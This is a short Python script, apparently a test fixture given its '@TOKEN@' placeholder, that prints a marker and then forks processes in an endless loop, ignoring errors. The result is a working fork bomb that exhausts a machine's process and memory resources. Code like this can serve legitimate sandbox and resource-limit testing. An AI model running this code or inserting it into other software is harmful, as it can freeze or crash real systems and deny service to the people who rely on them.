import os

print("@TOKEN@", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
